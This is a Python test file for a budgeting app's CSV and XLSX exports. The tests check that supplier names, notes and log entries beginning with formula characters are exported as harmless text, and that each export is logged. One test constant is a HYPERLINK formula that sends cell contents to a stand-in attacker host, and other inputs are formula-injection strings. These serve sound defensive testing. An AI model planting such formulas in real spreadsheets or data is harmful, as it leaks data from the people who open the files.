"""What is exported holds no formula, and a list without columns for it exports nothing."""

import codecs
import csv
import datetime as dt
import io
import re
from decimal import Decimal
from urllib.parse import urlencode

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from wagtail.log_actions import log
from wagtail.models import ModelLogEntry

from budgets.ledger import post_expense
from budgets.ledger import reverse as take_back
from budgets.models import Budget
from budgets.models.budget import today
from studio.people.models import User
from studio.people.roles import Role
from studio.spreadsheets import (
    BEGINS_FORMULA,
    EXPORTED,
    URL,
    as_text,
    cell,
    in_csv,
    number_format,
)
from tests.budgets.factories import LineFactory, greenlit
from tests.factories import UserFactory

FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "Invoice")'


def studio_time(entry):
    """When an entry was posted, on the studio's clock, as a sheet has it."""
    at = timezone.localtime(entry.posted_at, timezone.get_default_timezone())
    return at.replace(tzinfo=None, microsecond=0)


def body_of(answer):
    return b"".join(answer.streaming_content)


def csv_of(answer):
    body = body_of(answer)
    assert body.startswith(codecs.BOM_UTF8)  # by which spreadsheets know UTF-8
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_of(answer):
    headings, *rows = load_workbook(io.BytesIO(body_of(answer))).active.iter_rows()
    names = [heading.value for heading in headings]
    return [dict(zip(names, row, strict=True)) for row in rows]


@given(st.text())
def test_no_text_begins_a_formula_and_none_is_lost(text):
    assert not as_text(text).startswith(BEGINS_FORMULA)
    assert as_text(text).removeprefix("'") == text.removeprefix("'")


@given(st.text(alphabet=st.sampled_from(";\t\r\n \"=-+@\uff1d,a1'")))
def test_no_text_becomes_several_cells_of_which_one_is_a_formula(text):
    """As a spreadsheet reads a CSV file where the comma is in numbers."""
    _first, *others = re.split(r"[;\t\r\n]", in_csv(text))
    assert not [one for one in others if one.lstrip(' "').startswith(BEGINS_FORMULA)]
    assert in_csv(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (Decimal("-25.00"), "#,##0.00"),
        (Decimal("1000"), "#,##0"),
        (Decimal("1.005"), "#,##0.000"),
        (Decimal("Infinity"), ""),
        (5, ""),
        ("5.00", ""),
    ],
)
def test_an_amount_in_a_sheet_has_the_decimals_of_its_currency(value, shown):
    assert number_format(value) == shown


@pytest.mark.parametrize("value", [-5, Decimal("-5.00"), 1.5, None, True, dt.date(2026, 11, 26)])
def test_numbers_days_and_nothing_stay_what_they_are(value):
    assert cell(value) is value


@pytest.mark.parametrize("sign", BEGINS_FORMULA)
def test_text_of_whatever_origin_is_harmless(sign):
    class Named:
        def __str__(self):
            return f"{sign}1"

    for value in (f"{sign}1", Named()):
        assert cell(value) == f"'{sign}1"
    assert cell(gettext_lazy("=1")) == "'=1"


@pytest.mark.django_db
def test_a_supplier_s_formula_is_text_in_the_exported_entries(signed_in, finance):
    line = LineFactory(name="+Crew", approved=100_00)
    video = greenlit((line, 60_00))
    paid = {"supplier": FORMULA, "invoice": "@SUM(A1)", "note": "=1+1; -1;=1+1"}
    expense = post_expense(line.pk, video.pk, 25_00, by=finance, **paid)
    take_back(expense.pk, by=finance, reason="-2+3")
    client, url = signed_in(finance), reverse("budgets_entries")

    newest, first = csv_of(client.get(url, {"export": "csv", "kind": "expense"}))

    assert (newest["Amount"], newest["Note"]) == ("-25.00", "'-2+3")
    assert first["Supplier"] == f"'{FORMULA}"
    assert (first["Invoice"], first["Note"]) == ("'@SUM(A1)", "'=1+1; '-1;'=1+1")
    assert (first["Line"], first["Amount"]) == ("'+Crew", "25.00")

    newest, first = xlsx_of(client.get(url, {"export": "xlsx", "kind": "expense"}))

    assert (newest["Amount"].value, newest["Amount"].data_type) == (-25, "n")
    assert newest["Amount"].number_format == "#,##0.00"
    assert (newest["Day"].is_date, newest["Day"].value) == (True, today())
    assert newest["Posted"].is_date
    assert newest["Posted"].value.replace(microsecond=0) == studio_time(line.entries.last())
    assert (first["Supplier"].value, first["Supplier"].data_type) == (f"'{FORMULA}", "s")
    assert first["Note"].value == "'=1+1; -1;=1+1"  # where a text is one cell


@pytest.mark.django_db
@pytest.mark.parametrize("rows_of", [csv_of, xlsx_of])
def test_wagtail_s_own_reports_are_as_harmless(signed_in, rows_of):
    admin = UserFactory(is_superuser=True, first_name=FORMULA)
    log(Budget.objects.create(name=FORMULA), "wagtail.edit", user=admin)
    kind = rows_of.__name__.removesuffix("_of")
    answer = signed_in(admin).get("/admin/reports/site-history/", {"export": kind})
    rows = rows_of(answer)  # also of the pages that every studio has
    written = [str(getattr(value, "value", value)) for row in rows for value in row.values()]
    assert written.count(f"'{FORMULA}") == 1
    assert not [value for value in written if value.startswith(BEGINS_FORMULA)]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name",
    [
        "budgets_lines:index",
        "budgets_periods:index",
        "wagtailusers_users:index",
        "wagtailusers_groups:index",
        "budgets_estimates",
    ],
)
def test_a_list_without_columns_to_export_shows_itself(signed_in, name):
    LineFactory(name="Crew of the day")
    client = signed_in(UserFactory(role=Role.FINANCE, is_superuser=True))
    page = client.get(reverse(name), {"export": "csv"})
    assert page["Content-Type"].startswith("text/html")
    assert b"</html>" in page.content


# On record


def exports() -> list[tuple[User | None, str, str, str]]:
    """Who exported, from which list, what, and where it is opened again; the first first."""
    entries = ModelLogEntry.objects.filter(action=EXPORTED).order_by("pk")
    return [(entry.user, entry.label, entry.message, entry.data[URL]) for entry in entries]


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_export_is_on_record_with_its_rows_and_filters(signed_in, finance, kind):
    line = LineFactory(name="Crew", approved=100_00)
    greenlit((line, 60_00))
    url = reverse("budgets_entries")
    asked = {"kind": "commitment", "posted_on_from": "2026-01-01", "q": "How does", "p": "1"}
    client = signed_in(finance)
    client.get(url, asked)
    assert exports() == []  # who looks takes nothing away
    answer = client.get(url, {**asked, "export": kind})
    assert len({"csv": csv_of, "xlsx": xlsx_of}[kind](answer)) == 1
    [(by, what, said, again)] = exports()
    assert (by, what) == (finance, "Entries")
    assert said == (
        f"Exported 1 row as {kind.upper()}. Kind: Commitment. Day: 1 Jan 2026 - any. Search: …"
    )
    del asked["q"]  # what was typed may name a person whom nothing shall name later
    assert again == f"{url}?{urlencode(asked)}"
    assert "How does" not in str(ModelLogEntry.objects.get(action=EXPORTED).data)


@pytest.mark.django_db
def test_wagtail_s_own_exports_are_on_record_as_well(signed_in, admin_user):
    log(Budget.objects.create(name="Sales"), "wagtail.edit", user=admin_user)
    url = "/admin/reports/site-history/"
    client = signed_in(admin_user)
    answer = client.get(url, {"export": "csv", "label": "Sales"})
    assert len(csv_of(answer)) == 1
    assert exports() == [(admin_user, "Site history", "Exported 1 row as CSV. Name: …", url)]
    assert "Exported 1 row as CSV. Name: …" in client.get(url).content.decode()


@pytest.mark.django_db
def test_what_is_not_exported_is_not_on_record(signed_in, finance, producer):
    signed_in(finance).get(reverse("budgets_estimates"), {"export": "csv"})  # has no columns for it
    signed_in(finance).get(reverse("budgets_entries"), {"export": "pdf"})
    signed_in(producer).get(reverse("budgets_entries"), {"export": "csv"})  # may not see it
    assert exports() == []
